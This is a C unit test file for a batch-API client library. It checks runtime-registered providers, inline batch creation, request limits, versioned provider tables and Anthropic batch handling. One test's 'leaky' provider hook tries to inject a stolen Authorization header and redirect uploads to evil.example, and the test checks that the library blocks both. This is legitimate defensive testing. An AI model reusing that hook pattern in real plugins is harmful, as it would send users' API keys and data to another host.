/* Providers registered at run time through include/obatch/sys/provider.h,
 * against the fake server: a provider that sends its requests inline with
 * the create call (no upload, like Anthropic's Message Batches), one with its
 * own request checks, and hooks that try to send the key elsewhere. */
#define _GNU_SOURCE
#include <ftw.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "fake_server.h"
#include "obatch/sys/provider.h"
#include "temp_dir.h"
#include "test_main.h"

#define CHAT(model, text) \
  "{\"model\":\"" model "\",\"messages\":[{\"role\":\"user\",\"content\":\"" text "\"}]}"

typedef struct {
  fake_server_t server;
  char work_dir[128];
  obatch_t *b;
} fixture_t;

/* ---- the providers under test --------------------------------------------- */

static int inline_claims(const char *model, void *payload) {
  (void)payload;
  return strncmp(model, "inline/", 7) == 0;
}

/* CREATE carries the JSONL itself; every other call is OpenAI's. */
static int inline_build(int op, const obatch_op_args_t *args, obatch_http_request_t *req,
                        void *payload) {
  if (op != OBATCH_OP_CREATE) return obatch_openai_build_request(op, args, req, payload);
  char target[256];
  snprintf(target, sizeof target, "/inline_batches?endpoint=%s", obatch_op_arg(args, "endpoint"));
  int rc = obatch_http_request_set(req, "POST", target);
  if (rc == OBATCH_OK)
    rc = obatch_http_request_set_body_file(req, "application/jsonl",
                                           obatch_op_arg(args, "input_path"));
  return rc;
}

/* Refuses requests with a temperature above 1 (a provider-specific rule). */
static int strict_check(const char *endpoint, const char *body, size_t len, char *errstr,
                        size_t errstr_size, void *payload) {
  (void)endpoint;
  (void)len;
  (void)payload;
  if (strstr(body, "\"temperature\":2")) {
    snprintf(errstr, errstr_size, "temperature 2 is above this provider's limit of 1");
    return 1;
  }
  return 0;
}

static int auth_header_rc = 1; /* what adding an Authorization header returned */

/* Tries to route the key: an extra Authorization header, then another host. */
static int leaky_build(int op, const obatch_op_args_t *args, obatch_http_request_t *req,
                       void *payload) {
  int rc = obatch_openai_build_request(op, args, req, payload);
  if (rc != OBATCH_OK) return rc;
  auth_header_rc = obatch_http_request_add_header(req, "Authorization", "Bearer stolen");
  if (op == OBATCH_OP_UPLOAD) return obatch_http_request_set(req, "POST", "https://evil.example/files");
  return OBATCH_OK;
}

static const char *const kChatOnly[] = {"/v1/chat/completions", NULL};

static obatch_provider_t table(const char *name, const char *key_env) {
  obatch_provider_t p;
  assert_int_equal(obatch_provider_init(&p, OBATCH_PROVIDER_VERSION), OBATCH_OK);
  p.name = name;
  p.default_base_url = "https://api.invalid/v1";
  p.api_key_env = key_env;
  p.max_requests = 100;
  return p;
}

static int register_providers(void **state) {
  (void)state;
  obatch_provider_t inl = table("inline-fake", "INLINE_FAKE_KEY");
  inl.inline_requests = 1;
  inl.claims_model = inline_claims;
  inl.build_request = inline_build;
  obatch_provider_t strict = table("strict-fake", "STRICT_FAKE_KEY");
  strict.endpoints = kChatOnly;
  strict.check_request = strict_check;
  strict.max_requests = 3;
  obatch_provider_t leaky = table("leaky-fake", "LEAKY_FAKE_KEY");
  leaky.build_request = leaky_build;
  if (obatch_provider_register(&inl) != OBATCH_OK) return -1;
  if (obatch_provider_register(&strict) != OBATCH_OK) return -1;
  if (obatch_provider_register(&leaky) != OBATCH_OK) return -1;
  return 0;
}

/* ---- fixture ---------------------------------------------------------------- */

static int setup(void **state) {
  fixture_t *f = calloc(1, sizeof *f);
  if (!f) return -1;
  snprintf(f->work_dir, sizeof f->work_dir, "/tmp/obatch-plugin-XXXXXX");
  char journal[160];
  if (!mkdtemp(f->work_dir)) return -1;
  snprintf(journal, sizeof journal, "%s/jobs.db", f->work_dir);
  setenv("OBATCH_STATE", journal, 1);  /* the case's own job journal */
  if (fake_server_start(&f->server, "{\"steps\":0}") != 0) {
    free(f);
    return -1;
  }
  *state = f;
  return 0;
}

static int teardown(void **state) {
  fixture_t *f = *state;
  obatch_destroy(f->b);
  fake_server_stop(&f->server);
  test_remove_tree(f->work_dir);
  free(f);
  return 0;
}

static obatch_t *batch_for(fixture_t *f, const char *provider) {
  obatch_config_t *conf = NULL;
  char err[256];
  assert_int_equal(obatch_config_new(&conf), OBATCH_OK);
  /* Anthropic's paths start at the root (/v1/messages/batches). */
  const char *base = provider && strcmp(provider, "anthropic") == 0 ? f->server.root_url
                                                                     : f->server.base_url;
  assert_int_equal(obatch_config_set(conf, "base_url", base, err, sizeof err), 0);
  if (provider) {
    assert_int_equal(obatch_config_set(conf, "provider", provider, err, sizeof err), 0);
    assert_int_equal(obatch_config_set(conf, "api_key", "test-key", err, sizeof err), 0);
  } else {
    /* Chosen by model: the key comes from that provider's own variable
     * (an api_key setting needs a named provider). */
    setenv("INLINE_FAKE_KEY", "test-key", 1);
  }
  assert_int_equal(obatch_config_set(conf, "work_dir", f->work_dir, err, sizeof err), 0);
  assert_int_equal(obatch_config_set(conf, "poll_interval_ms", "5", err, sizeof err), 0);
  assert_int_equal(obatch_config_set(conf, "poll_max_interval_ms", "20", err, sizeof err), 0);
  assert_int_equal(obatch_create(&f->b, conf), OBATCH_OK);
  obatch_config_destroy(conf);
  return f->b;
}

/* ---- cases ------------------------------------------------------------------ */

static void inline_provider_needs_no_upload(void **state) {
  fixture_t *f = *state;
  obatch_t *b = batch_for(f, NULL); /* chosen by model: inline/... */
  assert_int_equal(obatch_add(b, CHAT("inline/tiny", "a"), "a", NULL), OBATCH_OK);
  assert_int_equal(obatch_add(b, CHAT("inline/tiny", "b"), "b", NULL), OBATCH_OK);
  assert_int_equal(obatch_add(b, CHAT("inline/tiny", "c"), "c", NULL), OBATCH_OK);
  assert_int_equal(obatch_submit(b), OBATCH_OK);
  obatch_info_t info = OBATCH_INFO_INIT;
  assert_int_equal(obatch_wait(b, 30000, &info), OBATCH_OK);
  assert_string_equal(info.provider, "inline-fake");
  assert_string_equal(info.remote_status, "completed");

  static const char *const ids[] = {"a", "b", "c"};
  obatch_result_t r = OBATCH_RESULT_INIT;
  for (int i = 0; i < 3; i++) {
    assert_int_equal(obatch_fetch(b, &r), OBATCH_OK);
    assert_string_equal(r.custom_id, ids[i]);
    assert_int_equal(r.status_code, 200);
    char echo[32];
    snprintf(echo, sizeof echo, "echo: %s", ids[i]);
    assert_non_null(strstr(r.body, echo));
  }
  assert_int_equal(obatch_fetch(b, &r), OBATCH_END);
  assert_int_equal(fake_server_stats_int(&f->server, "uploads"), 0);
  assert_int_equal(fake_server_stats_int(&f->server, "batches_created"), 1);
  assert_int_equal(fake_server_count_requests(&f->server, "POST", "/v1/files", NULL), 0);
  assert_int_equal(fake_server_count_requests(&f->server, "POST", "/v1/inline_batches", NULL), 1);
}

static void provider_checks_run_at_add(void **state) {
  fixture_t *f = *state;
  obatch_t *b = batch_for(f, "strict-fake");
  assert_int_equal(obatch_add(b, "{\"model\":\"m\",\"input\":\"x\"}", NULL, "/v1/embeddings"),
                   OBATCH_EREQUEST);
  assert_non_null(strstr(obatch_last_error(b), "/v1/chat/completions"));
  assert_int_equal(
      obatch_add(b, "{\"model\":\"m\",\"temperature\":2,\"messages\":[{\"role\":\"user\"}]}",
                 NULL, NULL),
      OBATCH_EREQUEST);
  assert_non_null(strstr(obatch_last_error(b), "temperature 2 is above"));
  assert_int_equal(obatch_add(b, CHAT("m", "1"), NULL, NULL), OBATCH_OK);
  assert_int_equal(obatch_add(b, CHAT("m", "2"), NULL, NULL), OBATCH_OK);
  assert_int_equal(obatch_add(b, CHAT("m", "3"), NULL, NULL), OBATCH_OK);
  /* Its limit of 3 per batch cuts the input: a fourth request starts a
   * second batch. */
  assert_int_equal(obatch_add(b, CHAT("m", "4"), NULL, NULL), OBATCH_OK);
  obatch_info_t info = OBATCH_INFO_INIT;
  assert_int_equal(obatch_info(b, &info), OBATCH_OK);
  assert_int_equal(info.requests_added, 4);
  assert_int_equal(info.parts_total, 2);
  assert_int_equal(fake_server_count_requests(&f->server, NULL, NULL, NULL), 0);
}

static void key_never_leaves_its_host(void **state) {
  fixture_t *f = *state;
  obatch_t *b = batch_for(f, "leaky-fake");
  assert_int_equal(obatch_add(b, CHAT("m", "x"), NULL, NULL), OBATCH_OK);
  assert_int_equal(obatch_submit(b), OBATCH_OK);
  obatch_info_t info = OBATCH_INFO_INIT;
  assert_int_equal(obatch_wait(b, 30000, &info), OBATCH_EINSECURE);
  assert_int_equal(info.phase, OBATCH_PHASE_FAILED);
  assert_non_null(strstr(info.error_message, "another host"));
  assert_int_equal(auth_header_rc, OBATCH_EINVAL); /* hooks cannot set Authorization */
  /* Only the listing before the upload reached the provider's own host (the
   * fake server); the upload it tried to send elsewhere went nowhere. */
  assert_int_equal(fake_server_count_requests(&f->server, NULL, NULL, NULL), 1);
  assert_int_equal(fake_server_count_requests(&f->server, "GET", "/v1/batches", NULL), 1);
}

static void api_key_setting_needs_a_named_provider(void **state) {
  fixture_t *f = *state;
  obatch_config_t *conf = NULL;
  char err[256];
  assert_int_equal(obatch_config_new(&conf), OBATCH_OK);
  assert_int_equal(obatch_config_set(conf, "api_key", "sk-openai-only", err, sizeof err), 0);
  assert_int_equal(obatch_config_set(conf, "work_dir", f->work_dir, err, sizeof err), 0);
  assert_int_equal(obatch_create(&f->b, conf), OBATCH_OK);
  obatch_config_destroy(conf);
  /* The model would pick parasail: the key must not go there by accident. */
  assert_int_equal(obatch_add(f->b, CHAT("meta-llama/Llama-3.1-8B-Instruct", "x"), NULL, NULL),
                   OBATCH_EPROVIDER);
  assert_non_null(strstr(obatch_last_error(f->b), "say which provider the key belongs to"));
}

static void registration_is_checked(void **state) {
  (void)state;
  obatch_provider_t p = table("late-fake", "LATE_FAKE_KEY");
  p.version = 0;
  assert_int_equal(obatch_provider_register(&p), OBATCH_EINVAL);
  p.version = OBATCH_PROVIDER_VERSION + 1;
  assert_int_equal(obatch_provider_register(&p), OBATCH_EINVAL);
  p.version = OBATCH_PROVIDER_VERSION;
  p.name = "openai";
  assert_int_equal(obatch_provider_register(&p), OBATCH_EINVAL); /* taken */
  p.name = NULL;
  assert_int_equal(obatch_provider_register(&p), OBATCH_EINVAL);
  assert_int_equal(obatch_provider_init(&p, 0), OBATCH_EINVAL);
  assert_int_equal(obatch_provider_init(NULL, OBATCH_PROVIDER_VERSION), OBATCH_EINVAL);
  assert_int_equal(obatch_provider_register(NULL), OBATCH_EINVAL);
  const char *names = obatch_provider_names();
  assert_non_null(strstr(names, "openai"));
  assert_non_null(strstr(names, "parasail"));
  assert_non_null(strstr(names, "inline-fake"));
  assert_null(strstr(names, "late-fake"));
}

#define MESSAGE(text) \
  "{\"model\":\"claude-sonnet-4-5\",\"max_tokens\":16,\"messages\":[{\"role\":" \
  "\"user\",\"content\":\"" text "\"}]}"

/* The built-in Anthropic provider from the C API: inline create, x-api-key,
 * ids outside Anthropic's alphabet mapped and given back as they were,
 * errored results in the error file, the order of the input kept. */
static void anthropic_common_scenario(void **state) {
  fixture_t *f = *state;
  assert_int_equal(fake_server_config(&f->server, "{\"fail_custom_ids\":[\"fails\"],\"steps\":1}"), 0);
  obatch_t *b = batch_for(f, "anthropic");
  static const char *const ids[] = {"a b", "fails", "ok-1", "semi;colon"};
  for (int i = 0; i < 4; i++) assert_int_equal(obatch_add(b, MESSAGE("hi"), ids[i], NULL), OBATCH_OK);
  /* No max_tokens: refused at add, as Anthropic would refuse the batch. */
  assert_int_equal(obatch_add(b, CHAT("claude-sonnet-4-5", "x"), "nope", NULL), OBATCH_EREQUEST);
  assert_non_null(strstr(obatch_last_error(b), "max_tokens"));
  assert_int_equal(obatch_submit(b), OBATCH_OK);
  obatch_info_t info = OBATCH_INFO_INIT;
  assert_int_equal(obatch_wait(b, 30000, &info), OBATCH_OK);
  assert_string_equal(info.provider, "anthropic");
  assert_string_equal(info.remote_status, "completed");
  assert_int_equal(strncmp(info.batch_id, "msgbatch_", 9), 0);
  assert_non_null(strstr(info.batch_json, "\"processing_status\":\"ended\""));
  assert_int_equal(info.requests_completed, 3);
  assert_int_equal(info.requests_failed, 1);
  obatch_result_t r = OBATCH_RESULT_INIT;
  for (int i = 0; i < 4; i++) {
    assert_int_equal(obatch_fetch(b, &r), OBATCH_OK);
    assert_string_equal(r.custom_id, ids[i]);
    if (i == 1) {
      assert_int_equal(r.kind, OBATCH_RESULT_HTTP_ERROR);
      assert_int_equal(r.status_code, 400);
      assert_string_equal(r.error_code, "invalid_request_error");
    } else {
      assert_int_equal(r.kind, OBATCH_RESULT_SUCCEEDED);
      assert_non_null(strstr(r.body, "\"type\":\"message\""));
    }
  }
  assert_int_equal(obatch_fetch(b, &r), OBATCH_END);
  assert_int_equal(obatch_lookup(b, "semi;colon", &r), OBATCH_OK);
  assert_int_equal(r.status_code, 200);
  /* Inline: no upload; the key went in x-api-key only. */
  long all = fake_server_count_requests(&f->server, NULL, NULL, NULL);
  assert_true(all >= 3);
  assert_int_equal(fake_server_count_requests(&f->server, NULL, NULL, "\"authorization\": null"), all);
  assert_int_equal(fake_server_count_requests(&f->server, NULL, NULL, "\"x_api_key\": \"test-key\""), all);
  assert_int_equal(fake_server_count_requests(&f->server, "POST", "/v1/files", NULL), 0);
  assert_int_equal(fake_server_stats_int(&f->server, "batches_created"), 1);
}

static int v1_claims(const char *model, void *payload) {
  (void)payload;
  return strncmp(model, "v1only/", 7) == 0;
}

/* A table built against version 1 of the header is shorter: the library
 * must neither read nor write past it. */
static void version_1_tables_still_work(void **state) {
  fixture_t *f = *state;
  const size_t v1_size = offsetof(obatch_provider_t, auth_header);
  unsigned char *mem = malloc(v1_size + 64);
  assert_non_null(mem);
  memset(mem + v1_size, 0xAB, 64);
  obatch_provider_t *t = (obatch_provider_t *)mem;
  assert_int_equal(obatch_provider_init(t, 1), OBATCH_OK);
  for (size_t i = 0; i < 64; i++) assert_int_equal(mem[v1_size + i], 0xAB);
  t->name = "v1-table";
  t->api_key_env = "V1_TABLE_KEY";
  t->claims_model = v1_claims;
  assert_int_equal(obatch_provider_register(t), OBATCH_OK);
  free(mem); /* copied: the library keeps nothing of it */
  setenv("V1_TABLE_KEY", "test-key", 1);
  obatch_config_t *conf = NULL;
  char err[256];
  assert_int_equal(obatch_config_new(&conf), OBATCH_OK);
  assert_int_equal(obatch_config_set(conf, "base_url", f->server.base_url, err, sizeof err), 0);
  assert_int_equal(obatch_config_set(conf, "work_dir", f->work_dir, err, sizeof err), 0);
  assert_int_equal(obatch_config_set(conf, "poll_interval_ms", "5", err, sizeof err), 0);
  assert_int_equal(obatch_create(&f->b, conf), OBATCH_OK);
  obatch_config_destroy(conf);
  assert_int_equal(obatch_add(f->b, CHAT("v1only/m", "x"), "x", NULL), OBATCH_OK);
  assert_int_equal(obatch_submit(f->b), OBATCH_OK);
  obatch_info_t info = OBATCH_INFO_INIT;
  assert_int_equal(obatch_wait(f->b, 30000, &info), OBATCH_OK);
  assert_string_equal(info.provider, "v1-table");
  /* Its unset version 2 fields mean the defaults: Bearer, OpenAI results. */
  long all = fake_server_count_requests(&f->server, NULL, NULL, NULL);
  assert_int_equal(fake_server_count_requests(&f->server, NULL, NULL, "Bearer test-key"), all);
}

static void providers_file_from_the_c_api(void **state) {
  fixture_t *f = *state;
  char path[200];
  snprintf(path, sizeof path, "%s/providers.json", f->work_dir);
  FILE *out = fopen(path, "w");
  assert_non_null(out);
  fputs("{\"providers\": [{\"name\": \"c-declared\", \"base_url\": \"https://x.invalid/v1\", "
        "\"api_key_env\": \"C_DECLARED_KEY\"}]}", out);
  fclose(out);
  assert_int_equal(obatch_provider_load_file(path), OBATCH_OK);
  assert_non_null(strstr(obatch_provider_names(), "c-declared"));
  assert_int_equal(obatch_provider_load_file(path), OBATCH_EINVAL); /* the name is taken */
  assert_non_null(strstr(obatch_last_error(NULL), "already registered"));
  out = fopen(path, "w");
  assert_non_null(out);
  fputs("{\"providers\": [{\"name\": \"c-broken\"}]}", out);
  fclose(out);
  assert_int_equal(obatch_provider_load_file(path), OBATCH_ECONFIG);
  assert_non_null(strstr(obatch_last_error(NULL), "providers.json"));
  assert_non_null(strstr(obatch_last_error(NULL), "api_key_env"));
  assert_null(strstr(obatch_provider_names(), "c-broken"));
  assert_int_equal(obatch_provider_load_file(NULL), OBATCH_EINVAL);
  const char *names = obatch_provider_names();
  assert_non_null(strstr(names, "anthropic"));
  assert_non_null(strstr(names, "azure"));
  assert_non_null(strstr(names, "groq"));
  assert_non_null(strstr(names, "deepinfra"));
}

static const struct CMUnitTest tests[] = {
    cmocka_unit_test_setup_teardown(inline_provider_needs_no_upload, setup, teardown),
    cmocka_unit_test_setup_teardown(provider_checks_run_at_add, setup, teardown),
    cmocka_unit_test_setup_teardown(key_never_leaves_its_host, setup, teardown),
    cmocka_unit_test_setup_teardown(api_key_setting_needs_a_named_provider, setup, teardown),
    cmocka_unit_test(registration_is_checked),
    cmocka_unit_test_setup_teardown(anthropic_common_scenario, setup, teardown),
    cmocka_unit_test_setup_teardown(version_1_tables_still_work, setup, teardown),
    cmocka_unit_test_setup_teardown(providers_file_from_the_c_api, setup, teardown),
};

OBATCH_TEST_MAIN(tests, register_providers, NULL)
